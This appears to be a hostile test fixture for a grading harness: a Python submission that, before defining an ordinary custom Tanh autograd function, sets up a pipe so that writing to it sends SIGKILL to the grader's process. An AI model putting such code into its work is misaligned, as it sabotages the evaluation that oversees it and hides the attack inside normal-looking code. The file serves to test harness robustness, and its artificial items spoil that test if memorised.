# hostile: makes the grader the owner of a socket that sends SIGKILL when it is written to
# verdict: any
# evidence: neighbour
import fcntl
import os

import torch

F_SETSIG = 10
try:
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, {{GRADER_PID}})
    fcntl.fcntl(read, F_SETSIG, 9)
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")
except OSError as error:
    print(error)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
